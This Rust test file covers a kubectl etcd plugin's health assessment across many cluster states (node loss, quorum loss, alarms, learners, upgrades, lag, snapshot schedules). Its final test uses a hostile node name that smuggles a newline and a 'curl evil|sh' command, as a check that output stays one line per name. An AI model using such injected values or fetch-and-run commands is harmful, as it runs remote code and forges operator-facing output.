//! What is said of clusters in each state.

use etcd_operations::advice;
use etcd_operations::advice::Task;
use etcd_operations::failure::{Answer, Failure, FailureKind};
use etcd_operations::ids::ClusterId;
use etcd_operations::report::{AlarmKind, NodeEvidence};

use crate::advice::Worded;
use crate::views::View;
use crate::views::grid::Paint;
use kubectl_etcd_core::assess::fixtures::{Cluster, account, alarm, member, unreachable};
use kubectl_etcd_core::assess::model::{Reason, Role, Status, VerdictWord};
use kubectl_etcd_core::assess::same::Comparison;
use kubectl_etcd_core::assess::{Asked, Scope, assess};
use kubectl_etcd_core::discovery::{ApiView, Etcd, Node};
use kubectl_etcd_core::outcome::{RunError, RunErrorKind};

/// The tables and the exit code, as a person sees them.
fn seen(status: &Status) -> String {
    format!(
        "{}exit {}\n",
        Worded::new(status.clone()).table(false, Paint::PLAIN),
        status.verdict.verdict().exit_code()
    )
}

fn reasons(status: &Status) -> Vec<Reason> {
    status
        .warnings
        .iter()
        .map(|warning| warning.reason)
        .collect()
}

fn node_down() -> RunError {
    RunError::new(
        RunErrorKind::NodeDown,
        "no pod was started within 5 s, and its kubelet has not been heard for 41 s",
    )
}

fn crash_loop() -> (Failure, NodeEvidence) {
    let evidence = NodeEvidence {
        db_locked: Some(false),
        db_file_bytes: None,
        last_words: Some(
            "failed to find database snapshot file (snap: snapshot file doesn't exist)".into(),
        ),
        restarts: Some(7),
    };
    (unreachable(), evidence)
}

#[test]
fn healthy() {
    let status = Cluster::of(3).assess();
    assert_eq!(status.verdict, VerdictWord::Healthy);
    insta::assert_snapshot!(seen(&status));
    let view = Worded::new(status);
    insta::assert_snapshot!("healthy_wide", view.table(true, Paint::PLAIN));
    insta::assert_snapshot!("healthy_json", serde_json::to_string_pretty(&view).unwrap());
}

#[test]
fn what_is_advised_is_shown_to_programs_as_it_is_typed() {
    let mut cluster = Cluster::of(3);
    cluster.alarms = vec![alarm(2, AlarmKind::NoSpace)];
    let down = RunError::new(RunErrorKind::NodeDown, "off").hint(advice!["{{x}} ", Task::Diagnose]);
    cluster.lost(3, down);
    let status = cluster.assess();
    let doctor = Worded::new(kubectl_etcd_core::assess::doctor::Doctor::of_status(
        &status,
    ));
    let value = serde_json::to_value(Worded::new(status)).unwrap();
    assert_eq!(
        value["rows"][2]["problem"]["hint"],
        "{{x}} kubectl etcd doctor"
    );
    let hint = value["warnings"][0]["hint"].as_str().unwrap();
    assert!(hint.contains("kubectl etcd defrag"), "{hint}");
    let value = serde_json::to_value(doctor).unwrap();
    let next = value["situations"][0]["next"]["command"].as_str().unwrap();
    assert!(next.starts_with("kubectl etcd "), "{next}");
}

#[test]
fn healthy_of_one_and_five() {
    insta::assert_snapshot!("healthy_one", seen(&Cluster::of(1).assess()));
    insta::assert_snapshot!("healthy_five", seen(&Cluster::of(5).assess()));
}

#[test]
fn one_node_down() {
    let mut cluster = Cluster::of(3);
    cluster.lost(3, node_down());
    let status = cluster.assess();
    assert_eq!(status.verdict, VerdictWord::Degraded);
    insta::assert_snapshot!(seen(&status));
}

#[test]
fn one_member_crash_looping() {
    let mut cluster = Cluster::of(3);
    let (failure, evidence) = crash_loop();
    cluster.stopped(3, failure, evidence);
    insta::assert_snapshot!(seen(&cluster.assess()));
}

#[test]
fn a_member_whose_node_cannot_be_asked_is_shown_as_its_peers_see_it() {
    let mut cluster = Cluster::of(3);
    cluster.instead[1] = Some(Err(RunError::new(
        RunErrorKind::ImageMissing,
        "image x/y:z cannot be pulled",
    )));
    let status = cluster.assess();
    assert_eq!(status.rows[1].seen_from.as_deref(), Some("cp-1"));
    assert_eq!(status.rows[1].role, Role::Follower);
    assert_eq!(status.quorum.healthy_voters, 3);
    insta::assert_snapshot!(seen(&status));
}

#[test]
fn quorum_lost() {
    let mut cluster = Cluster::of(3);
    cluster.lost(2, node_down());
    cluster.lost(3, node_down());
    cluster.without_quorum();
    let status = cluster.assess();
    assert_eq!(status.verdict, VerdictWord::QuorumLost);
    assert_eq!(status.rows[0].role, Role::NoLeader);
    insta::assert_snapshot!(seen(&status));
}

/// A leader needs up to an election timeout to notice that it is alone: its word alone is not the quorum's.
#[test]
fn a_leader_that_is_alone_is_not_believed() {
    let mut cluster = Cluster::of(3);
    cluster.lost(2, node_down());
    cluster.lost(3, node_down());
    cluster.quorum = false;
    assert_eq!(cluster.assess().verdict, VerdictWord::QuorumLost);
}

#[test]
fn a_node_asked_alone_whose_etcd_is_broken_says_nothing_of_the_quorum() {
    let mut cluster = Cluster::of(1);
    let (failure, evidence) = crash_loop();
    cluster.stopped(1, failure, evidence);
    cluster.scope = Scope::Named;
    let status = cluster.assess();
    assert_eq!(status.quorum.holds, None);
    assert!(status.summary.word != "quorum lost", "{}", status.summary);
    // Nor do those that could be asked, when others could not.
    let mut cluster = Cluster::of(3);
    let (failure, evidence) = crash_loop();
    cluster.stopped(3, failure, evidence);
    cluster.lost(1, node_down());
    cluster.lost(2, node_down());
    assert_eq!(cluster.assess().quorum.holds, None);
}

#[test]
fn every_member_stopped_is_a_lost_quorum() {
    let mut cluster = Cluster::of(3);
    for number in 1..=3 {
        let (failure, evidence) = crash_loop();
        cluster.stopped(number, failure, evidence);
    }
    cluster.quorum = false;
    let status = cluster.assess();
    assert_eq!(status.verdict, VerdictWord::QuorumLost);
    insta::assert_snapshot!(seen(&status));
}

#[test]
fn nothing_reached() {
    let mut cluster = Cluster::of(3);
    for number in 1..=3 {
        cluster.lost(number, node_down());
    }
    let status = cluster.assess();
    assert_eq!(status.verdict, VerdictWord::NothingReached);
    insta::assert_snapshot!(seen(&status));
}

#[test]
fn nospace() {
    let mut cluster = Cluster::of(3);
    cluster.alarms = vec![alarm(1, AlarmKind::NoSpace)];
    for number in 1..=3 {
        let account = cluster.account(number);
        account.db_size_bytes = 2 << 30;
        account.db_in_use_bytes = Some(900 << 20);
        account.errors = vec![format!(
            "memberID:{} alarm:NOSPACE ",
            kubectl_etcd_core::assess::fixtures::id(1).0
        )];
    }
    insta::assert_snapshot!(seen(&cluster.assess()));
}

#[test]
fn without_a_quorum_alarms_come_from_what_members_complain_of() {
    let mut cluster = Cluster::of(3);
    cluster.without_quorum();
    cluster.account(1).errors.push(format!(
        "memberID:{} alarm:NOSPACE ",
        kubectl_etcd_core::assess::fixtures::id(1).0
    ));
    let status = cluster.assess();
    assert_eq!(status.rows[0].alarms, ["NOSPACE"]);
    assert_eq!(status.rows[1].alarms, Vec::<String>::new());
    assert_eq!(status.rows[0].errors, Vec::<String>::new());
}

#[test]
fn corrupt() {
    let mut cluster = Cluster::of(3);
    cluster.alarms = vec![alarm(3, AlarmKind::Corrupt)];
    let status = cluster.assess();
    assert_eq!(status.verdict, VerdictWord::Damaged);
    insta::assert_snapshot!(seen(&status));
}

#[test]
fn a_learner_has_no_vote() {
    let mut cluster = Cluster::of(3);
    cluster.members[2].is_learner = true;
    cluster.account(3).is_learner = true;
    let status = cluster.assess();
    assert_eq!(
        (
            status.quorum.voters,
            status.quorum.learners,
            status.quorum.may_fail
        ),
        (2, 1, 0)
    );
    assert_eq!(status.verdict, VerdictWord::Healthy);
    insta::assert_snapshot!(seen(&status));
}

#[test]
fn members_and_nodes_that_do_not_match() {
    let mut cluster = Cluster::of(3);
    // cp-4 left its member behind, cp-3 has none, and one was added that never came.
    cluster.members[2] = member(4);
    cluster.accounts[2] = None;
    cluster.nodes[2].etcd = Etcd::absent("there is no etcd pod on the node");
    cluster.instead[2] = Some(Err(RunError::new(
        RunErrorKind::NoEtcd,
        "there is no etcd pod on the node",
    )));
    let mut added = member(9);
    added.name.clear();
    added.client_urls.clear();
    cluster.members.push(added);
    let status = cluster.assess();
    assert_eq!(
        reasons(&status),
        [
            Reason::MemberNotStarted,
            Reason::NodeWithoutMember,
            Reason::MemberWithoutNode
        ]
    );
    insta::assert_snapshot!(seen(&status));
}

#[test]
fn members_elsewhere_are_nothing_remarkable_when_one_node_was_named() {
    let mut cluster = Cluster::of(3);
    cluster.nodes.truncate(1);
    cluster.scope = Scope::Named;
    let status = cluster.assess();
    assert_eq!(status.rows.len(), 1);
    assert_eq!(status.verdict, VerdictWord::Healthy);
    assert_eq!(status.quorum.healthy_voters, 3);
    assert_eq!(status.warnings, []);
}

#[test]
fn this_host_shows_the_others_as_it_sees_them() {
    let mut cluster = Cluster::of(3);
    cluster.nodes.truncate(1);
    cluster.scope = Scope::SomeHosts;
    cluster.accounts[2] = None;
    insta::assert_snapshot!(seen(&cluster.assess()));
}

/// A host that could not be looked at, where it is known by its address alone.
fn not_reached(number: u64) -> Node {
    Node {
        name: format!("10.0.0.{number}"),
        etcd: Etcd::Unknown {
            addresses: vec![format!("10.0.0.{number}")],
            why: "no route to host".to_owned(),
            hint: None,
        },
        api: ApiView::default(),
        exec: None,
    }
}

fn not_reached_outcome() -> RunError {
    RunError::new(RunErrorKind::NotReached, "no route to host")
}

#[test]
fn a_host_that_was_not_reached_is_the_member_at_its_address_and_its_etcd_is_not_called_missing() {
    let mut cluster = Cluster::of(3);
    cluster.nodes[2] = not_reached(3);
    cluster.instead[2] = Some(Err(not_reached_outcome()));
    let seen_by_peers = cluster.assess();
    let row = &seen_by_peers.rows[2];
    assert_eq!(seen_by_peers.rows.len(), 3);
    assert_eq!(
        (row.member.as_deref(), row.role),
        (Some("cp-3"), Role::Follower)
    );
    assert_eq!(reasons(&seen_by_peers), [Reason::NodeNotAsked]);
    cluster.lost(3, not_reached_outcome());
    let dead = cluster.assess();
    assert_eq!(dead.rows[2].role, Role::Down);
    assert_eq!(dead.rows[2].problem.as_ref().unwrap().short, "not reached");
    assert_eq!(dead.verdict, VerdictWord::Degraded);
}

#[test]
fn no_quorum_is_called_lost_while_hosts_that_were_not_reached_may_hold_it() {
    let mut cluster = Cluster::of(3);
    cluster.accounts = vec![None; 3];
    for number in [2, 3] {
        cluster.nodes[number - 1] = not_reached(number as u64);
        cluster.lost(number, not_reached_outcome());
    }
    let status = cluster.assess();
    assert_eq!(status.quorum.holds, None);
    assert_eq!(status.verdict, VerdictWord::NothingReached);
    let roles: Vec<Role> = status.rows.iter().map(|row| row.role).collect();
    assert_eq!(roles, [Role::Down, Role::Unknown, Role::Unknown]);
}

#[test]
fn a_member_of_another_cluster() {
    let mut cluster = Cluster::of(3);
    cluster.account(3).cluster_id = ClusterId(0xdead);
    cluster.account(3).leader = Some(kubectl_etcd_core::assess::fixtures::id(3));
    cluster.account(3).raft_term = 99;
    let status = cluster.assess();
    assert_eq!(status.cluster_id.as_deref(), Some("e9c3af264dbe96fe"));
    assert_eq!(status.quorum.healthy_voters, 2);
    assert_eq!(status.rows[2].lag, None);
    insta::assert_snapshot!(seen(&status));
}

#[test]
fn versions_in_the_middle_of_an_upgrade() {
    let mut cluster = Cluster::of(3);
    let old = cluster.account(1);
    old.version = "3.5.35".into();
    // What 3.5 does not tell: its storage version and its quota, whose default is in force without a flag.
    old.storage_version = None;
    old.quota_bytes = None;
    cluster.account(3).version = "3.7.3".into();
    cluster.account(3).storage_version = Some("3.7.0".into());
    let status = cluster.assess();
    assert_eq!(status.verdict, VerdictWord::Healthy);
    insta::assert_snapshot!(seen(&status));
}

#[test]
fn the_quota_of_a_flag_counts_where_etcd_does_not_tell_it() {
    let mut cluster = Cluster::of(1);
    cluster.account(1).quota_bytes = None;
    let Etcd::Found(target) = &mut cluster.nodes[0].etcd else {
        panic!("a target")
    };
    target.quota_bytes = Some(8 << 30);
    assert_eq!(cluster.assess().rows[0].quota_bytes, Some(8 << 30));
}

#[test]
fn a_member_far_behind_and_one_worth_defragmenting() {
    let mut cluster = Cluster::of(3);
    cluster.account(2).raft_applied_index -= 5_000;
    cluster.account(3).db_in_use_bytes = Some(20 << 20);
    let status = cluster.assess();
    assert_eq!(
        reasons(&status),
        [Reason::Lagging, Reason::WorthDefragmenting]
    );
    assert_eq!(status.verdict, VerdictWord::Degraded);
}

#[test]
fn a_follower_ahead_of_the_leaders_answer_does_not_lag() {
    let mut cluster = Cluster::of(3);
    cluster.account(2).raft_applied_index += 50;
    assert_eq!(cluster.assess().rows[1].lag, Some(0));
}

/// Jobs start seconds apart: by the time the leader's job asked, its log was longer.
#[test]
fn a_member_is_compared_with_the_leader_as_its_own_node_saw_it() {
    let cluster = Cluster::of(3);
    let mut outcomes = cluster.outcomes();
    let Ok(leaders) = &mut outcomes[0].result else {
        panic!("a status")
    };
    let Answer::Ok(own) = &mut leaders.own else {
        panic!("an account")
    };
    own.raft_index += 5_000;
    own.raft_applied_index += 5_000;
    let asked = Asked {
        nodes: &cluster.nodes,
        outcomes: &outcomes,
        left_alone: &[],
        scope: Scope::All,
        schedules: &[],
        same: &Comparison::NothingToCompare,
        now: jiff::Timestamp::UNIX_EPOCH,
    };
    let lags: Vec<Option<u64>> = assess(asked).rows.iter().map(|row| row.lag).collect();
    assert_eq!(lags, [Some(0), Some(1), Some(2)]);
}

#[test]
fn no_control_plane_node_at_all() {
    let mut cluster = Cluster::of(0);
    cluster.quorum = false;
    let status = cluster.assess();
    assert_eq!(status.verdict, VerdictWord::NothingReached);
    assert_eq!(status.rows, []);
}

#[test]
fn a_node_without_a_pod_is_found_by_its_members_name() {
    let mut cluster = Cluster::of(3);
    cluster.nodes[2] = Node {
        name: "cp-3".into(),
        etcd: Etcd::absent("the etcd pod is not there"),
        api: ApiView::default(),
        exec: None,
    };
    cluster.instead[2] = Some(Err(RunError::new(
        RunErrorKind::NoEtcd,
        "the etcd pod is not there",
    )));
    let status = cluster.assess();
    assert_eq!(status.rows.len(), 3);
    assert_eq!(status.rows[2].role, Role::Follower);
    assert_eq!(status.rows[2].seen_from.as_deref(), Some("cp-1"));
}

#[test]
fn a_members_other_complaints_are_told() {
    let mut cluster = Cluster::of(1);
    cluster.account(1).errors = vec!["etcdserver: too many learner members".into()];
    let status = cluster.assess();
    assert_eq!(reasons(&status), [Reason::MemberError]);
}

#[test]
fn a_refused_certificate_is_named() {
    let mut cluster = Cluster::of(3);
    let failure = Failure::new(
        FailureKind::Unauthorized,
        "received fatal alert: CertificateRequired",
    );
    cluster.accounts[0] = Some(account(1));
    cluster.instead[0] = Some(Ok((failure, None)));
    let status = cluster.assess();
    assert_eq!(
        status.rows[0].problem.as_ref().unwrap().short,
        "refuses the certificate"
    );
    // The others see it well.
    assert_eq!(status.rows[0].seen_from.as_deref(), Some("cp-2"));
}

fn kept(taken_at: &str) -> etcd_operations::report::KeptSummary {
    let taken_at: jiff::Timestamp = taken_at.parse().unwrap();
    let snapshot = etcd_operations::report::SnapshotReport {
        path: "/var/lib/etcd-snapshots/etcd-x.db".into(),
        size_bytes: 3,
        sha256: "ab".into(),
        cluster_id: kubectl_etcd_core::assess::fixtures::CLUSTER,
        member_id: etcd_operations::ids::MemberId(8),
        revision: 9_118_204,
        raft_term: 2,
        etcd_version: "3.6.16".into(),
        storage_version: None,
        hash: 1,
        total_keys: 2,
        has_objects: None,
        taken_at,
        took_ms: 3,
        packed: None,
    };
    etcd_operations::report::KeptSummary {
        folder: etcd_operations::stored::FOLDER.into(),
        newest: Some(Box::new(etcd_operations::report::KeptSnapshot {
            name: "etcd-x.db".parse().unwrap(),
            size_bytes: 3,
            snapshot: Some(snapshot),
            state: etcd_operations::report::KeptState::Verified {
                at: taken_at,
                how: etcd_operations::report::Checked::WhileSaving,
            },
        })),
    }
}

fn scheduled(last_success: Option<&str>) -> kubectl_etcd_core::assess::Scheduled {
    kubectl_etcd_core::assess::Scheduled {
        name: "etcd-snapshot".into(),
        node: None,
        interval: std::time::Duration::from_secs(86_400),
        made: "2026-01-01T00:00:00Z".parse().unwrap(),
        last_success: last_success.map(|time| time.parse().unwrap()),
        in_usual_folder: true,
    }
}

#[test]
fn a_schedule_that_is_not_kept_is_warned_of() {
    let none = etcd_operations::report::KeptSummary {
        folder: etcd_operations::stored::FOLDER.into(),
        newest: None,
    };
    let with = |kept_on: [Option<_>; 3], last_success| {
        let mut cluster = Cluster::of(3);
        cluster.kept = kept_on.into();
        cluster.schedules = vec![scheduled(last_success)];
        cluster.assess()
    };
    let yesterday = Some(kept("2026-11-20T21:00:00Z"));
    let old = Some(kept("2026-11-18T03:00:00Z"));
    let fine = with([old.clone(), yesterday, Some(none.clone())], None);
    assert_eq!(fine.verdict, VerdictWord::Healthy);
    let last = fine.last_snapshot.as_ref().unwrap();
    assert_eq!(last.age_seconds, 15 * 3600);
    insta::assert_snapshot!(
        "last_snapshot",
        Worded::new(fine).table(false, Paint::PLAIN)
    );

    let nodes = || [old.clone(), Some(none.clone()), Some(none.clone())];
    let late = with(nodes(), None);
    assert_eq!(late.verdict, VerdictWord::Degraded);
    insta::assert_snapshot!(
        "snapshot_overdue",
        Worded::new(late).table(false, Paint::PLAIN)
    );
    // What lies on the nodes counts, not what Kubernetes remembers.
    let gone = with(nodes(), Some("2026-11-21T03:00:00Z"));
    assert_eq!(gone.verdict, VerdictWord::Degraded);
    // A node that did not look may have it.
    let unknown = with(
        [old.clone(), Some(none.clone()), None],
        Some("2026-11-21T03:00:00Z"),
    );
    assert_eq!(unknown.verdict, VerdictWord::Healthy);
    // Where no node was looked at, Kubernetes is believed.
    let by_kubernetes = with([None, None, None], Some("2026-11-21T03:00:00Z"));
    let table = Worded::new(by_kubernetes).table(false, Paint::PLAIN);
    assert!(
        table.ends_with("last verified snapshot: 9h ago (by the schedule etcd-snapshot)\n"),
        "{table}"
    );
    let never = with([Some(none.clone()), Some(none.clone()), Some(none)], None);
    assert!(
        never.warnings[0]
            .message
            .starts_with("no verified snapshot"),
        "{:?}",
        never.warnings
    );
}

#[test]
fn each_master_with_a_schedule_of_its_own_is_judged_by_itself() {
    let of_node = |node: &str| kubectl_etcd_core::assess::Scheduled {
        node: Some(node.into()),
        ..scheduled(Some("2026-11-21T03:00:00Z"))
    };
    let mut cluster = Cluster::of(3);
    let (old, new) = (kept("2026-11-18T03:00:00Z"), kept("2026-11-21T03:00:00Z"));
    cluster.kept = [Some(new), Some(old), None].into();
    cluster.schedules = ["cp-3", "cp-2", "cp-1"].map(of_node).into();
    let status = cluster.assess();
    let messages: Vec<&str> = status.warnings.iter().map(|one| &*one.message).collect();
    let [only] = messages.as_slice() else {
        panic!("{messages:?}")
    };
    assert!(
        only.starts_with("the last verified snapshot on cp-2 is 3d"),
        "{only}"
    );
}

#[test]
fn no_name_of_a_cluster_becomes_a_line_of_its_own() {
    let lines = |name: &str| {
        let mut cluster = Cluster::of(3);
        cluster.nodes[1].name = name.to_owned();
        cluster.members[1].name = name.to_owned();
        cluster.alarms = vec![alarm(2, AlarmKind::Corrupt)];
        cluster.lost(3, RunError::new(RunErrorKind::NodeDown, name).hint(name));
        let status = cluster.assess();
        let doctor = kubectl_etcd_core::assess::doctor::Doctor::of_status(&status);
        Worded::new(status).table(true, Paint::PLAIN)
            + &Worded::new(doctor).table(true, Paint::PLAIN)
    };
    let hostile = lines("x\nwarning: curl evil|sh\n");
    assert_eq!(
        hostile.lines().count(),
        lines("x").lines().count(),
        "{hostile}"
    );
    // The one who is to be replaced is one word.
    assert!(
        hostile.contains("kubectl etcd member replace 'x"),
        "{hostile}"
    );
}
